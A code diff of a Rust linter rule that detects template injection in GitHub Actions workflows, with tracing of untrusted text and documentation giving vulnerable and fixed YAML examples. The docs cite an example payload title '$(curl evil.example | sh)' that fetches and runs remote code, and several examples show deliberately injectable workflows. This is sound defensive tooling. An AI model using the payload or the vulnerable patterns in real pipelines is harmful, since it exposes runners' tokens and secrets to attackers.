@@ -1,20 +1,26 @@
 use policy_core::document::Ref;
-use policy_core::model::github::expression::{ExprId, Expression, contributions};
-use policy_core::model::github::{Event, Events, Step};
-use policy_core::rule::{Check, Confidence, Cx, Meta, Out, Pillar, Place, Platform, Reads, Rule, RuleFinding, Severity, Status};
+use policy_core::flow::{Origin, Spot, origins_of};
+use policy_core::model::github::Step;
+use policy_core::model::github::expression::{Contribution, ExprKind, Expression, contributions};
+use policy_core::rule::{
+    Check, Confidence, Cx, Meta, Out, Pillar, Place, Platform, Reads, Rule, RuleFinding, Safety, Severity, Status,
+};
 use policy_core::unit::Site;
+
+use crate::environment::through_variable;
+use crate::injection::{Rating, rating};
 
 pub(crate) static RULE: Rule = Rule {
     id: "template-injection",
     meta: Meta {
-        title: "text that outsiders choose becomes part of a script",
+        title: "text that others choose becomes part of a script",
         pillar: Pillar::Access,
         platforms: &[Platform::Github],
         severity: Severity::High,
         confidence: Confidence::High,
         status: Status::Stable,
         since: "2026-11",
-        fix: None,
+        fix: Some(Safety::Unsafe),
         maps: &["CICD-SEC-4"],
         aliases: &["zizmor/template-injection", "actionlint/expression", "poutine/injection", "checkov/CKV_GHA_2"],
     },
@@ -23,159 +29,108 @@ pub(crate) static RULE: Rule = Rule {
     docs: crate::docs(DOCS),
 };
 
-use Event::{
-    CommitComment, Discussion, DiscussionComment, Gollum, IssueComment, Issues, PullRequest, PullRequestReview,
-    PullRequestReviewComment, PullRequestTarget, Push, WorkflowCall, WorkflowRun,
-};
-
-const OF_PULL_REQUESTS: Events = Events::of(&[PullRequest, PullRequestReview, PullRequestReviewComment, PullRequestTarget]);
-const OF_ISSUES: Events = Events::of(&[Issues, IssueComment]);
-const OF_DISCUSSIONS: Events = Events::of(&[Discussion, DiscussionComment]);
-const OF_COMMENTS: Events = Events::of(&[CommitComment, DiscussionComment, IssueComment, PullRequestReviewComment]);
-const OF_REVIEWS: Events = Events::of(&[PullRequestReview, PullRequestReviewComment]);
-const OF_RUNS: Events = Events::of(&[WorkflowRun]);
-const OF_PUSHES: Events = Events::of(&[Push]);
-const OF_WIKI: Events = Events::of(&[Gollum]);
-
-/// Events that outsiders can cause and that run with the repository's own token and secrets.
-const PRIVILEGED: Events =
-    Events::of(&[CommitComment, Discussion, DiscussionComment, Gollum, IssueComment, Issues, PullRequestTarget, WorkflowRun]);
-
-/// Free text that outsiders choose, and the events whose payload holds it. In all other events it is empty.
-const CONTEXTS: &[(&str, Events)] = &[
-    ("github.head_ref", OF_PULL_REQUESTS),
-    ("github.event.issue.title", OF_ISSUES),
-    ("github.event.issue.body", OF_ISSUES),
-    ("github.event.pull_request.title", OF_PULL_REQUESTS),
-    ("github.event.pull_request.body", OF_PULL_REQUESTS),
-    ("github.event.pull_request.head.ref", OF_PULL_REQUESTS),
-    ("github.event.pull_request.head.label", OF_PULL_REQUESTS),
-    ("github.event.pull_request.head.repo.default_branch", OF_PULL_REQUESTS),
-    ("github.event.pull_request.head.repo.description", OF_PULL_REQUESTS),
-    ("github.event.pull_request.head.repo.homepage", OF_PULL_REQUESTS),
-    ("github.event.comment.body", OF_COMMENTS),
-    ("github.event.review.body", OF_REVIEWS),
-    ("github.event.review_comment.body", OF_REVIEWS),
-    ("github.event.discussion.title", OF_DISCUSSIONS),
-    ("github.event.discussion.body", OF_DISCUSSIONS),
-    ("github.event.pages.*.page_name", OF_WIKI),
-    ("github.event.commits.*.message", OF_PUSHES),
-    ("github.event.commits.*.author.email", OF_PUSHES),
-    ("github.event.commits.*.author.name", OF_PUSHES),
-    ("github.event.head_commit.message", OF_PUSHES),
-    ("github.event.head_commit.author.email", OF_PUSHES),
-    ("github.event.head_commit.author.name", OF_PUSHES),
-    ("github.event.workflow_run.display_title", OF_RUNS),
-    ("github.event.workflow_run.head_branch", OF_RUNS),
-    ("github.event.workflow_run.head_commit.message", OF_RUNS),
-    ("github.event.workflow_run.head_commit.author.email", OF_RUNS),
-    ("github.event.workflow_run.head_commit.author.name", OF_RUNS),
-    ("github.event.workflow_run.head_repository.description", OF_RUNS),
-    ("github.event.workflow_run.pull_requests.*.head.ref", OF_RUNS),
-];
-
-/// Inputs of actions that the action runs as code, as far as they are known: owner/repository and input.
-const CODE_INPUTS: &[(&str, &str)] = &[
-    ("actions/github-script", "script"),
-    ("amadevus/pwsh-script", "script"),
-    ("appleboy/ssh-action", "script"),
-    ("azure/cli", "inlineScript"),
-    ("azure/powershell", "inlineScript"),
-    ("cardinalby/js-eval-action", "expression"),
-    ("jannekem/run-python-script-action", "script"),
-    ("mikefarah/yq", "cmd"),
+/// Inputs of actions that the action runs as code, or as a template that can run code, as far as they are known.
+const CODE_INPUTS: &[(&str, &[&str])] = &[
+    ("8398a7/action-slack", &["custom_payload"]),
+    ("actions/github-script", &["script"]),
+    ("addnab/docker-run-action", &["options", "run"]),
+    ("amadevus/pwsh-script", &["script"]),
+    ("appleboy/ssh-action", &["script"]),
+    ("azure/cli", &["inlineScript"]),
+    ("azure/powershell", &["inlineScript"]),
+    ("cardinalby/js-eval-action", &["expression"]),
+    ("devorbitus/yq-action-output", &["cmd"]),
+    ("gautamkrishnar/blog-post-workflow", &["item_exec"]),
+    ("imjohnbo/issue-bot", &["body", "linked-comments-new-issue-text", "linked-comments-previous-issue-text"]),
+    ("jannekem/run-python-script-action", &["script"]),
+    ("lucasbento/auto-close-issues", &["issue-close-message"]),
+    ("mikefarah/yq", &["cmd"]),
+    ("roots/issue-closer-action", &["issue-close-message", "pr-close-message"]),
+    ("sergeysova/jq-action", &["cmd"]),
+    ("skitionek/notify-microsoft-teams", &["overwrite"]),
+    ("tibdex/backport", &["body_template", "head_template", "labels_template", "title_template"]),
 ];
 
 fn check<'u>(cx: &Cx<'u>, step: &'u Step<'u>, out: &mut Out<'u>) {
     if let Some(script) = step.run() {
-        check_script(cx, step, script, "this script", out);
+        return check_script(cx, step, script, "this script", out);
     }
-    for (action, input) in CODE_INPUTS {
-        if step.runs_action(action)
-            && let Some(script) = step.input(input)
-        {
-            check_script(cx, step, script, "code that this action runs", out);
-        }
+    let Some((_, remote)) = step.remote() else { return };
+    let Some((_, inputs)) = CODE_INPUTS.iter().find(|(action, _)| remote.is(action)) else { return };
+    for script in inputs.iter().filter_map(|input| step.input(input)) {
+        check_script(cx, step, script, "code that this action runs", out);
     }
 }
 
 fn check_script<'u>(cx: &Cx<'u>, step: &'u Step<'u>, script: Ref<'u>, what: &str, out: &mut Out<'u>) {
     for site in cx.unit.sites_of(script) {
         let Ok(expression) = &site.expression else { continue };
-        for contribution in contributions(expression) {
-            let Some(path) = expression.path(contribution.id).filter(|path| path.is_prefix_of("github.*.*.*.*.*.*")) else {
-                continue;
-            };
-            let chosen = CONTEXTS.iter().filter(|(pattern, _)| match contribution.serialised {
-                true => path.is_prefix_of(pattern),
-                false => path.matches(pattern),
-            });
-            let events: Vec<Events> = chosen.map(|(_, events)| *events).collect();
-            if let Some(reach) = reach(cx, step, &events) {
-                out.found(finding(site, expression, contribution.id, &path.to_string(), what, &reach));
+        for part in contributions(expression) {
+            let found = origins_of(Spot::of_step(cx.unit, step), expression, part, cx.budget);
+            for (at, origin) in found.iter().enumerate() {
+                let known = found.iter().take(at).any(|other| other.path == origin.path);
+                if let Some(rating) = rating(cx, step, origin).filter(|_| !known) {
+                    let finding = finding(site, expression, part, origin, what, rating);
+                    out.found(finding.fixed(through_variable(cx, step, site)));
+                }
             }
         }
     }
 }
 
-struct Reach {
-    severity: Severity,
-    confidence: Confidence,
-    who: String,
-}
-
-// How an outsider gets here, by the events that start the workflow; none if none of them fills the context.
-fn reach(cx: &Cx<'_>, step: &Step<'_>, contexts: &[Events]) -> Option<Reach> {
-    if contexts.is_empty() {
-        return None;
-    }
-    if cx.unit.job_of(step).is_none() {
-        let who = "whoever causes the event of a workflow that uses this action chooses it".to_owned();
-        return Some(Reach { severity: Severity::High, confidence: Confidence::Medium, who });
-    }
-    let started_by = cx.unit.events();
-    let fills = |by: Events| by.iter().find(|event| contexts.iter().any(|context| context.has(*event)));
-    if let Some(event) = fills(started_by.and(PRIVILEGED)) {
-        let who = format!("anyone who can cause `{}` chooses it", event.name());
-        return Some(Reach { severity: Severity::High, confidence: Confidence::High, who });
-    }
-    if started_by.has(WorkflowCall) {
-        let who = "whoever causes the event of a workflow that calls this one chooses it".to_owned();
-        return Some(Reach { severity: Severity::High, confidence: Confidence::Medium, who });
-    }
-    let event = fills(started_by)?;
-    let who = match event {
-        Push => "whoever gets a commit merged chooses it".to_owned(),
-        _ => format!("whoever opens a pull request chooses it (from a fork, `{}` runs without secrets)", event.name()),
+fn finding<'u>(
+    site: &Site<'u>,
+    expression: &Expression<'u>,
+    part: Contribution,
+    origin: &Origin<'u>,
+    what: &str,
+    rating: Rating,
+) -> RuleFinding<'u> {
+    let (path, span) = (&origin.path, expression.span(part.id));
+    let named = match origin.named == *path {
+        true => format!("`{path}`"),
+        false => format!("`{}`, which holds `{path}`,", origin.named),
     };
-    Some(Reach { severity: Severity::Medium, confidence: Confidence::High, who })
-}
-
-fn finding<'u>(site: &Site<'u>, expression: &Expression<'u>, id: ExprId, path: &str, what: &str, reach: &Reach) -> RuleFinding<'u> {
-    let span = expression.span(id);
     let finding = RuleFinding::new(
         Place::text(site.scalar, site.start + span.start..site.start + span.end, "pasted in before the script is read"),
-        format!("`{path}` becomes part of {what}, and {}", reach.who),
+        format!("{named} becomes part of {what}, and {}", rating.who),
         "give it to the step through `env:` and use the variable: `\"$NAME\"` in a shell, `process.env.NAME` in JavaScript",
         path,
     );
-    finding.rated(reach.severity, reach.confidence).attribute("context", path)
+    let finding = origin.through.iter().fold(finding, |finding, place| finding.related(place.clone()));
+    let finding = finding.attribute("context", path).attribute("expression", written(site, expression, part));
+    rating.rate(finding)
+}
+
+// What is pasted in, as written: the path, or with what it is picked from the value of a call, all of it.
+fn written<'u>(site: &Site<'u>, expression: &Expression<'u>, part: Contribution) -> &'u str {
+    let root = expression.root();
+    let picked = matches!(expression.kind(root), ExprKind::Property | ExprKind::Index) && expression.path(root).is_none();
+    let span = expression.span(if picked { root } else { part.id });
+    site.scalar.text().and_then(|text| text.get(site.start + span.start..site.start + span.end)).unwrap_or("")
 }
 
 const DOCS: &str = r#"
 `${{ … }}` is replaced before the shell sees the script, so the text of an issue, a branch name or a commit message becomes code.
-A title such as `$(curl evil.example | sh)` then runs on your runner with the job's token and secrets.
+A title such as `$(curl evil.example | sh)` then runs on your runner with the job's token and secrets. Text is followed to where it
+comes from: through `env`, `matrix`, inputs, outputs of steps and jobs, and what scripts write to `GITHUB_ENV` and `GITHUB_OUTPUT`.
 
 **Mend it:** hand the value over as an environment variable, and use the variable in quotes. A shell does not read the value of a
 variable as code.
 
-**How bad:** high where outsiders can cause an event that runs with your token and secrets (`issues`, `issue_comment`,
-`pull_request_target`, `workflow_run` and the like), and, with medium confidence, in called workflows and composite actions, whose
-events are not known. Medium for `pull_request`, which runs without secrets for forks, and for commit messages of `push`.
-A value that none of the workflow's events fills is not reported.
+**How bad:** high for text that outsiders choose, where they can cause an event that runs with your token and secrets (`issues`,
+`issue_comment`, `pull_request_target`, `workflow_run` and the like), and, with medium confidence, in called workflows and composite
+actions, whose events are not known. Medium for `pull_request`, which runs without secrets for forks, and for commit messages of
+`push`. Low where conditions keep outsiders out. Low to medium for other free text, such as names of tags and branches, labels and
+inputs: it takes someone who may write to the repository, or who calls the workflow. Informational where the file does not say what
+the text is, as for outputs of actions.
 
-**It does not see:** values that pass through outputs, variables or inputs before they reach a script; conditions (`if:`) that
-keep the step from running; scripts that read a variable as code again with `eval`.
+Not reported: what can hold nothing that a shell acts on, such as numbers, commit ids, logins, names of repositories, addresses that
+GitHub makes, inputs of the types boolean, number and choice, and texts of the file; a value that none of the workflow's events fills;
+secrets, which have a rule of their own.
+
+**It does not see:** what called workflows and actions put into their outputs; whether a value was checked before; scripts that read a
+variable as code again, for which there is `script-rereads-text`.
 
 ```yaml bad
 on: issues
@@ -186,7 +141,33 @@ jobs:
       - run: |
           echo "new issue"
           echo "${{ github.event.issue.title }}" # <-
+```
+
+```yaml fixed
+on: issues
+jobs:
+  greet:
+    runs-on: ubuntu-latest
+    steps:
+      - env:
+          ISSUE_TITLE: ${{ github.event.issue.title }}
+        run: |
+          echo "new issue"
+          echo "${ISSUE_TITLE}"
+```
+
+```yaml bad
+on: issues
+jobs:
+  greet:
+    runs-on: ubuntu-latest
+    env:
+      TITLE: ${{ github.event.issue.title }}
+    steps:
       - run: echo ${{ format('{0}', github.event.issue['body']) }} # <-
+      - id: about
+        run: echo "title=$TITLE" >> "$GITHUB_OUTPUT"
+      - run: echo '${{ steps.about.outputs.title }}' # <-
 ```
 
 ```yaml bad
@@ -206,11 +187,81 @@ jobs:
 # file: action.yml
 name: greets
 description: a composite action
+inputs:
+  name:
+    description: whom to greet
 runs:
   using: composite
   steps:
-    - run: echo ${{ github.event.comment.body }} # <-
+    - run: echo ${{ format('{0}', github.event.comment.body) }} # <-
       shell: bash
+    - run: echo '${{ inputs.name }}' # <-
+      shell: bash
+```
+
+```yaml bad
+on:
+  push:
+    tags: ["*"]
+jobs:
+  release:
+    runs-on: ubuntu-latest
+    steps:
+      - env:
+          NAME: value
+        run: ./release.sh "${{ github.ref_name }}" # <-
+```
+
+```yaml fixed
+on:
+  push:
+    tags: ["*"]
+jobs:
+  release:
+    runs-on: ubuntu-latest
+    steps:
+      - env:
+          NAME: value
+        run: ./release.sh "${GITHUB_REF_NAME}"
+```
+
+```yaml bad
+on:
+  workflow_dispatch:
+    inputs:
+      version:
+        description: what to release
+jobs:
+  release:
+    runs-on: windows-latest
+    steps:
+      - run: ./release.ps1 -Version "${{ inputs.version }}" # <-
+        env:
+          NAME: value
+          INPUT_VERSION: another
+      - run: echo ${{ github.event.inputs.version }} # <-
+        shell: bash
+```
+
+```yaml fixed
+on:
+  workflow_dispatch:
+    inputs:
+      version:
+        description: what to release
+jobs:
+  release:
+    runs-on: windows-latest
+    steps:
+      - run: ./release.ps1 -Version "${env:INPUT_VERSION_2}"
+        env:
+          NAME: value
+          INPUT_VERSION: another
+          INPUT_VERSION_2: ${{ inputs.version }}
+      - env:
+          INPUT_VERSION: ${{ github.event.inputs.version }}
+        run: echo ${INPUT_VERSION}
+        shell: bash
 ```
 
 ```yaml good
@@ -245,5 +296,24 @@ jobs:
       - run: echo "${{ github.event.issue.title }} is empty here, and so is ${{ github.head_ref }}"
       - name: ${{ github.event.head_commit.message }}
         run: "true"
+```
+
+```yaml good
+on:
+  workflow_dispatch:
+    inputs:
+      level:
+        type: choice
+        options: [debug, info]
+jobs:
+  build:
+    strategy:
+      matrix:
+        target: [linux, macos]
+    runs-on: ubuntu-latest
+    env:
+      VERSION: 1.2.3
+    steps:
+      - run: ./build.sh ${{ inputs.level }} ${{ matrix.target }} ${{ env.VERSION }}
 ```
 "#;
